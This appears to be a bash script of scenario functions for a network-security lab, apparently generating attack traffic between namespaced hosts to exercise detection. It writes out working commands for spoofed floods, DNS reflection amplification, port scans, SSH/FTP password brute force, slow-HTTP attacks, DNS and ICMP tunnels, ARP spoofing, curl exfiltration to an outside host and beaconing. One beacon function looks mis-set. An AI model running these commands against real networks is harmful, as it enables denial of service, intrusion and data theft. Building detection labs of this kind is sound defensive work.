# The lab's attacks: lab_NAME runs the scenario NAME of lab.tsv, bounded in packets or time. Those of attacks.sh are used as they are.

# attack_from ADDRESS TARGET COMMAND...: as that attacker, whatever the tool's exit code: many end with one when they are cut off.
attack_from() {
  as "$1" "$2"
  shift 2
  (cd "$work" && in_host attacker timeout 200 "$@" >>"$work/attack.log" 2>&1) || true
}

# forge_source FILTER SOURCE...: the attacker's packets that nft's FILTER selects leave from another address.
forge_source() {
  local filter=$1 source=$2
  ip netns exec "${prefix}attacker" nft -f - <<NFT
table ip forge {
  chain output {
    type filter hook output priority raw;
    $filter ip saddr set $source
  }
}
NFT
}

# slow_down RATE: no more than that leaves the attacker.
slow_down() {
  ip netns exec "${prefix}attacker" tc qdisc replace dev eth0 root tbf rate "$1" burst 32k latency 100ms
}

# Floods

lab_syn_flood_forged() { syn_flood; }

lab_syn_flood_one_source() {
  attack_from 203.0.113.69 192.168.50.80 hping3 --quiet --interface eth0 --spoof 203.0.113.69 --syn --destport 80 --interval u2300 --count 8000 192.168.50.80
}

lab_syn_flood_low() {
  forge_source 'ip daddr 192.168.50.80 tcp dport 80 tcp flags & (syn | ack) == syn' 'ip saddr & 0.0.255.255 | 198.18.0.0'
  attack_from 203.0.113.69 192.168.50.80 hping3 --quiet --interface eth0 --syn --destport 80 --rand-source --interval u20000 --count 2000 192.168.50.80
}

lab_udp_flood() { udp_flood; }

lab_udp_flood_large() {
  attack_from 203.0.113.69 192.168.50.22 hping3 --quiet --interface eth0 --spoof 203.0.113.69 --udp --destport ++1 --data 1400 --interval u1000 --count 14000 192.168.50.22
}

lab_icmp_flood() {
  attack_from 203.0.113.69 192.168.50.80 hping3 --quiet --interface eth0 --spoof 203.0.113.69 --icmp --interval u600 --count 22000 192.168.50.80
}

lab_dhcp_flood() {
  start_dhcp
  "${NODE:-node}" "$here/dhcp-discovers.ts" "$work/discovers.pcap" 10000 "$seed"
  in_host visitor tcpreplay --quiet --intf1 eth0 --pps 500 "$work/discovers.pcap" >"$work/attack.log" 2>&1
}

# A query for big.example, type TXT, that takes answers of 4,096 bytes.
big_query=12340100000100000000000103626967076578616d706c6500001000010000291000000000000000

lab_reflection_dns() {
  start_reflecting_dns
  mapfile -t targets < <(reflectors)
  in_host attacker timeout 60 nping --quiet --udp --source-ip 192.168.50.80 --source-port 4444 --dest-port 53 --data "$big_query" \
    --rate 300 --count 200 "${targets[@]}" >"$work/attack.log" 2>&1 || true
}

lab_reflection_syn_ack() {
  mapfile -t targets < <(reflectors)
  in_host attacker timeout 60 nping --quiet --tcp --flags syn --source-ip 192.168.50.80 --source-port 5555 --dest-port 80 \
    --rate 300 --count 200 "${targets[@]}" >"$work/attack.log" 2>&1 || true
}

lab_reflector_dns() {
  in_host attacker timeout 120 nping --quiet --udp --source-ip 198.18.7.7 --source-port 4444 --dest-port 53 --data "$big_query" \
    --rate 150 --count 9000 "$second_dns" >"$work/attack.log" 2>&1 || true
}

# Scans

# scan TARGET OPTION...: nmap from outside.
scan() {
  local target=$1
  shift
  attack_from 203.0.113.66 "$target" nmap -n -Pn "$@" "$target"
}

lab_scan_syn() { port_scan; }
lab_scan_connect() { scan 192.168.50.22 -sT --top-ports 500 --max-rate 50 --max-retries 1; }
lab_scan_fin() { scan 192.168.50.22 -sF --top-ports 200 --max-rate 50 --max-retries 1; }
lab_scan_xmas() { scan 192.168.50.22 -sX --top-ports 200 --max-rate 50 --max-retries 1; }
lab_scan_null() { scan 192.168.50.22 -sN --top-ports 200 --max-rate 50 --max-retries 1; }
lab_scan_ack() { scan 192.168.50.22 -sA --top-ports 200 --max-rate 50 --max-retries 1; }
lab_scan_udp() { udp_scan; }
lab_scan_versions() { scan 192.168.50.80 -sV --version-light --top-ports 100 --max-rate 10 --max-retries 1; }
lab_scan_slow() { scan 192.168.50.22 -sS --top-ports 40 --scan-delay 4s --max-retries 0; }
lab_scan_one_a_minute() { scan 192.168.50.22 -sS --top-ports 110 --scan-delay 1s --max-retries 0; }

lab_sweep_445() { host_sweep; }
lab_sweep_arp() { arp_sweep; }

# sweep OPTION...: nmap by the visitor, over what is not there but routed: of a sweep of the office from outside, a tap inside sees the
# router's ARP for absent hosts and nothing else.
sweep() { (in_host visitor timeout 120 nmap -n "$@" >"$work/attack.log" 2>&1) || true; }

lab_sweep_22() { sweep -sS -Pn -p 22 --max-rate 25 --max-retries 0 --min-hostgroup 256 192.168.60.0/24; }
lab_sweep_ping() { sweep -sn -PE --max-rate 50 --max-retries 0 192.168.60.0/23; }

lab_sweep_one_a_minute() {
  in_host visitor timeout 200 nping --quiet --tcp --flags syn --dest-port 445 --rate 1 --count 1 192.168.60.1-110 >"$work/attack.log" 2>&1 || true
}

# Passwords

# passwords COUNT: a list, the last of which is right.
passwords() {
  for number in $(seq 1 $(($1 - 1))); do echo "password-$number"; done >"$work/passwords.txt"
  echo "$deploy_password" >>"$work/passwords.txt"
}

lab_brute_force_ssh() { password_attack; }

lab_brute_force_ssh_slow() {
  passwords 50
  attack_from 203.0.113.67 192.168.50.22 timeout 120 hydra -I -q -l deploy -P "$work/passwords.txt" -t 1 -w 3 ssh://192.168.50.22
}

lab_brute_force_ftp() {
  start_ftp
  passwords 80
  attack_from 203.0.113.67 192.168.50.22 timeout 80 hydra -I -q -l deploy -P "$work/passwords.txt" -t 4 ftp://192.168.50.22
}

# HTTP

lab_slow_headers() { slow_http; }

lab_slow_body() {
  take_uploads web 192.168.50.80
  attack_from 203.0.113.68 192.168.50.80 timeout 130 slowhttptest -B -c 90 -r 30 -i 15 -x 8 -l 110 -p 3 -s 8192 -t PUT -u http://192.168.50.80/upload -v 0
}

lab_slow_read() {
  attack_from 203.0.113.68 192.168.50.80 timeout 130 slowhttptest -X -c 90 -r 30 -l 110 -p 3 -w 10 -y 20 -n 5 -z 32 -k 3 -u http://192.168.50.80/handbook.txt -v 0
}

lab_http_flood_ab() {
  slow_down 450kbit
  attack_from 203.0.113.68 192.168.50.80 ab -q -c 20 -n 100000 -t 30 http://192.168.50.80/style.css
}

lab_http_flood_wrk() {
  slow_down 1mbit
  attack_from 203.0.113.68 192.168.50.80 wrk -t 1 -c 20 -d 20s http://192.168.50.80/style.css
}

lab_http_flood_low() {
  as 203.0.113.68 192.168.50.80
  in_host attacker sh -c 'for i in $(seq 780); do curl -s -o /dev/null http://192.168.50.80/article-3.html & sleep 0.07; done; wait' || true
}

# Tunnels

lab_dns_tunnel_iodine() {
  in_host site iodined -f -c -P tunnel 10.99.0.1/24 tunnel.test >>"$work/attack.log" 2>&1 &
  pause 1
  in_host client-1 iodine -f -r -P tunnel "$second_dns" tunnel.test >>"$work/attack.log" 2>&1 &
  pause 12
  in_host client-1 timeout 45 curl --silent --interface dns0 --output /dev/null http://10.99.0.1/handbook.txt >>"$work/attack.log" 2>&1 || true
  ip netns pids "${prefix}client-1" | xargs --no-run-if-empty ps -o pid=,comm= -p | awk '$2 == "iodine" { print $1 }' | xargs --no-run-if-empty kill || true
}

lab_dns_tunnel_dig() {
  start_name_server site 203.0.113.10 tunnel 'local=/tunnel.test/'
  # shellcheck disable=SC2016
  in_host client-1 bash -c 'RANDOM=$1; for second in $(seq 60); do
    for query in 1 2 3 4 5 6 7 8; do
      name=; for part in 1 2 3 4 5 6 7 8 9 10; do name+=$(printf "%04x%04x" $RANDOM $RANDOM); [ $part != 5 ] || name+=.; done
      echo "$name.tunnel.test TXT"
    done >"$3"
    dig +tries=1 +time=1 "@$2" -f "$3" >/dev/null; sleep 0.8; done' bash "$seed" "$second_dns" "$work/queries" || true
}

lab_icmp_tunnel() {
  ip netns exec "${prefix}site" sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  in_host site ptunnel-ng -r127.0.0.1 -R80 >>"$work/attack.log" 2>&1 &
  in_host client-1 ptunnel-ng -p203.0.113.10 -r127.0.0.1 -R80 -l8888 >>"$work/attack.log" 2>&1 &
  pause 2
  for _ in 1 2 3 4; do
    in_host client-1 timeout 10 curl --silent --output /dev/null http://127.0.0.1:8888/handbook.txt >>"$work/attack.log" 2>&1 || true
    pause 1
  done
}

# Inside

lab_arp_spoofing() {
  ip netns exec "${prefix}visitor" sysctl -qw net.ipv4.ip_forward=1
  in_host visitor timeout --signal INT 45 arpspoof -i eth0 -t 192.168.50.101 -r 192.168.50.1 >"$work/attack.log" 2>&1 || true
}

lab_exfiltration_http() {
  take_uploads site 203.0.113.11
  head -c 120000000 /dev/zero >"$work/secret"
  in_host client-1 timeout 60 curl --silent --limit-rate 5M --upload-file "$work/secret" http://203.0.113.11/secret >"$work/attack.log" 2>&1
}

lab_exfiltration_pieces() {
  take_uploads site 203.0.113.11
  head -c 2000000 /dev/zero >"$work/piece"
  for number in $(seq 60); do
    in_host client-1 timeout 10 curl --silent --upload-file "$work/piece" "http://203.0.113.11/piece-$number" >>"$work/attack.log" 2>&1
    pause 1.4
  done
}

# A call of home with the same question each time, up to a fifth early or late.
call_home() {
  for _ in $(seq "$1"); do
    in_host client-1 curl --silent --insecure --output /dev/null https://203.0.113.11/article-2.html || true
    pause "$(awk -v r="$RANDOM" -v s="$2" 'BEGIN { printf "%.2f", s * (0.8 + 0.4 * r / 32768) }')"
  done
}

lab_beacon_8s() { call_home 30 8; }
lab_beacon_8m() { call_home 30 8; }
